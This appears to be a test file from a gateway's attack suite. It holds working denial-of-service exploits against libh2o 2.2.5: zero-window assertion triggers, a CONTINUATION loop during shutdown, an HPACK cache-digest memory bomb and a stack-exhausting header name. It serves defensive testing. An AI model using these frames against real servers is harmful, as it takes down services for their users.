/* killers.c - frames that would end an unguarded libh2o 2.2.5: assertions, an endless loop, a memory bomb */
/* SPDX-License-Identifier: MIT */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/attack.h"
#include "tests/attack/honest.h"
#include "tests/support/sandbox.h"

#define SMALL_BUFFER 4096
#define SMALL_SEGMENT 536
#define FULL_QUIET_MS 100
#define STEP_MS 15
#define KILL_MS 3000

/* The length of a response's body (or first block): a stream window of that size ends at 0. */
static uint32_t body_length(struct attack_run *run, const char *path)
{
    struct attack_target target = target_of(run, "h2");
    struct attack_peer *peer = attack_open(&target);
    struct h2_frame frame;
    uint32_t len = 0;

    if (peer == NULL)
        return 0;
    h2_put_hello(peer, H2_WINDOW_MAX);
    h2_put_get(peer, 1, path);
    attack_flush(peer, 1000);
    while (len == 0 && h2_next_frame(peer, &frame, 3000))
        if (frame.type == H2_DATA)
            len = (uint32_t)frame.len;
    attack_close(peer);
    return len;
}

/* Small buffers between the two sides: libh2o's writes get stuck unless they are read. */
static void set_tight(struct attack_target *target)
{
    target->receive_buffer = SMALL_BUFFER;
    target->segment = SMALL_SEGMENT;
}

/*
 * The assertion at connection.c:332. A stream that is done with, whose window
 * is exactly 0 and whose last bytes are in a write that is stuck, waits on a
 * list for that write; libh2o asserts that it doesn't when its window opens.
 * Nothing here is a flood: a few bulk streams make writes stuck, and the
 * victims share the next write. At which step is not known, so each step opens
 * the window of one victim.
 */
struct zero_window {
    const char *path;
    bool reset;    /* the stream is open and gets reset; false: it has finished */
    bool settings; /* SETTINGS open the window; false: WINDOW_UPDATE */
};
#define BULK_STREAMS 4
#define VICTIMS 90
#define STEP_BYTES 8192

static uint32_t victim_of(uint32_t index)
{
    return 2 * (BULK_STREAMS + index) + 1;
}

static void open_one(struct attack_peer *peer, const struct zero_window *zero, uint32_t victim, uint32_t window)
{
    if (zero->reset)
        h2_put_reset(peer, victim);
    if (zero->settings) {
        h2_put_setting(peer, H2_SET_INITIAL_WINDOW, window + 1);
        h2_put_setting(peer, H2_SET_INITIAL_WINDOW, window);
    } else {
        h2_put_window(peer, victim, 1);
    }
}

static void zero_window_connection(struct attack_peer *peer, const struct zero_window *zero, uint32_t window)
{
    static uint8_t buffer[STEP_BYTES];

    h2_put_hello(peer, window);
    for (uint32_t i = 0; i < BULK_STREAMS; i++) {
        h2_put_get(peer, 2 * i + 1, BULK_PATH);
        h2_put_window(peer, 2 * i + 1, 1u << 28);
    }
    attack_flush(peer, 1000);
    attack_wait_full(peer, FULL_QUIET_MS, 2000);
    for (uint32_t i = 0; i < VICTIMS; i++)
        h2_put_get(peer, victim_of(i), zero->path);
    for (uint32_t i = 0; i < VICTIMS && attack_flush(peer, 1000); i++) {
        attack_read(peer, buffer, sizeof(buffer), 100);
        sleep_ms(STEP_MS);
        open_one(peer, zero, victim_of(i), window);
    }
}

static void zero_window(struct attack_run *run, const struct zero_window *zero)
{
    uint32_t window = body_length(run, zero->path);
    struct attack_target target = target_of(run, "h2");

    if (window == 0) {
        failed(run, "%s can't be asked for", zero->path);
        return;
    }
    set_tight(&target);
    for (unsigned tries = 0; tries < (run->full ? 4u : 1u) && more(run); tries++) {
        struct attack_peer *peer = begin(run, &target);
        if (peer == NULL)
            return;
        zero_window_connection(peer, zero, window);
        finish(run, peer, 100);
    }
}

static void finished_update(struct attack_run *run)
{
    zero_window(run, &(struct zero_window){NOWHERE_PATH, false, false});
}

static void finished_settings(struct attack_run *run)
{
    zero_window(run, &(struct zero_window){NOWHERE_PATH, false, true});
}

static void reset_update(struct attack_run *run)
{
    zero_window(run, &(struct zero_window){QUIET_PATH, true, false});
}

static void reset_settings(struct attack_run *run)
{
    zero_window(run, &(struct zero_window){QUIET_PATH, true, true});
}

#define FLOOD 3000
/* The same by sheer numbers: thousands of finished streams that are not read, then a window for each. */
static void zero_window_flood(struct attack_run *run)
{
    uint32_t window = body_length(run, NOWHERE_PATH);
    struct attack_target target = target_of(run, "h2");

    set_tight(&target);
    for (unsigned tries = 0; tries < (run->full ? 20u : 5u) && more(run); tries++) {
        struct attack_peer *peer = begin(run, &target);
        if (peer == NULL)
            return;
        h2_put_hello(peer, window);
        for (uint32_t i = 0; i < FLOOD && attack_flush(peer, 300); i++) {
            h2_put_get(peer, 2 * i + 1, NOWHERE_PATH);
            if (i % 50 == 49) /* if more were sent at once, the rest would be refused */
                sleep_ms(5);
        }
        for (uint32_t i = 0; i < FLOOD; i++)
            h2_put_window(peer, 2 * i + 1, 1);
        attack_flush(peer, 1000);
        finish(run, peer, KILL_MS);
    }
}

/*
 * The endless loop at connection.c:419: after a graceful shutdown's second
 * GOAWAY a CONTINUATION is neither handled nor consumed. Connections wait in
 * the middle of a header block and continue it while the gateway shuts down.
 */
#define WAITING 20
static void continuation_in_shutdown(struct attack_run *run)
{
    struct attack_peer *peers[WAITING] = {NULL};
    uint8_t block[256];
    size_t len = hpack_put_request(block, QUIET_PATH), open = WAITING;
    int64_t until = now_ms() + 6000;

    for (size_t i = 0; i < WAITING; i++) {
        if ((peers[i] = begin_h2(run, 65535)) == NULL)
            continue;
        h2_put_get(peers[i], 1, QUIET_PATH);
        h2_put(peers[i], H2_HEADERS, H2_END_STREAM, 3, block, len);
        attack_flush(peers[i], 1000);
    }
    kill(run->gateway, SIGTERM);
    while (open != 0 && now_ms() < until) {
        open = 0;
        for (size_t i = 0; i < WAITING; i++) {
            if (peers[i] == NULL || peers[i]->closed)
                continue;
            h2_put(peers[i], H2_CONTINUATION, 0, 3, NULL, 0);
            attack_flush(peers[i], 100);
            attack_drain(peers[i]);
            open++;
        }
        sleep_ms(20);
    }
    for (size_t i = 0; i < WAITING; i++)
        finish(run, peers[i], 100);
}

/*
 * hpack.c:563: one 4 KB header that decodes to 190 KB of digests, then a byte
 * for each repetition of it.
 */
#define DIGEST_LEN 3900
#define DIGEST_REPEATS 1900
static void cache_digest_bomb(struct attack_run *run)
{
    static uint8_t block[16384];
    static char digest[DIGEST_LEN];

    memset(digest, '_', sizeof(digest)); /* ones: each bit is a key of its own … */
    memcpy(digest, "-D", 2);             /* … when the header says so: 31 bits of capacity, none of remainder */
    for (unsigned i = 0; i < (run->full ? 20u : 5u) && more(run); i++) {
        struct attack_peer *peer = begin_h2(run, 65535);
        if (peer == NULL)
            return;
        size_t len = hpack_put_request(block, QUIET_PATH);
        len += hpack_put_literal(block + len, 0x40, "cache-digest", digest, sizeof(digest));
        memset(block + len, 0xbe, DIGEST_REPEATS); /* the newest entry of the dynamic table */
        h2_put(peer, H2_HEADERS, H2_END_STREAM | H2_END_HEADERS, 1, block, len + DIGEST_REPEATS);
        attack_flush(peer, 1000);
        finish(run, peer, KILL_MS);
    }
}

/* http1.c:283 puts a header's name on the stack, which a thread with a small one doesn't survive. */
static void header_name(struct attack_run *run)
{
    static const size_t lengths[] = {60000, 200000, 400000, 415000};
    static char name[415000];
    struct attack_target target = target_of(run, "http/1.1");

    memset(name, 'n', sizeof(name));
    for (size_t i = 0; i < sizeof(lengths) / sizeof(lengths[0]); i++) {
        struct attack_peer *peer = begin(run, &target);
        if (peer == NULL)
            continue;
        attack_put(peer, "GET /h HTTP/1.1\r\nhost: x\r\n", 26);
        attack_put(peer, name, lengths[i]);
        attack_put(peer, ": 1\r\n\r\n", 7);
        attack_flush(peer, 1000);
        finish(run, peer, KILL_MS);
    }
}

/* The gateway may also ignore a WINDOW_UPDATE for a closed stream, but not SETTINGS. */
const struct attack killers[] = {
    {"zero-window-finished-update", "killers", ATTACK_BOTH, finished_update, ATTACK_EITHER, 8000, 15000, false,
     ATTACK_ALWAYS},
    {"zero-window-finished-settings", "killers", ATTACK_BOTH, finished_settings, ATTACK_KILLED, 8000, 15000, false,
     ATTACK_ALWAYS},
    {"zero-window-reset-update", "killers", ATTACK_BOTH, reset_update, ATTACK_EITHER, 8000, 15000, false,
     ATTACK_ALWAYS},
    {"zero-window-reset-settings", "killers", ATTACK_BOTH, reset_settings, ATTACK_KILLED, 8000, 15000, false,
     ATTACK_ALWAYS},
    {"zero-window-flood", "killers", ATTACK_BOTH, zero_window_flood, ATTACK_KILLED, 3000, 8000, false, ATTACK_ALWAYS},
    {"cache-digest-bomb", "killers", ATTACK_BOTH, cache_digest_bomb, ATTACK_KILLED, 3000, 8000, false, ATTACK_ALWAYS},
    {"header-name-on-the-stack", "killers", ATTACK_BOTH, header_name, ATTACK_KILLED, 3000, 8000, false, ATTACK_ALWAYS},
    {"continuation-in-shutdown", "shutdown", ATTACK_BOTH, continuation_in_shutdown, ATTACK_KILLED, 8000, 8000, true,
     ATTACK_ALWAYS},
    {.name = NULL},
};
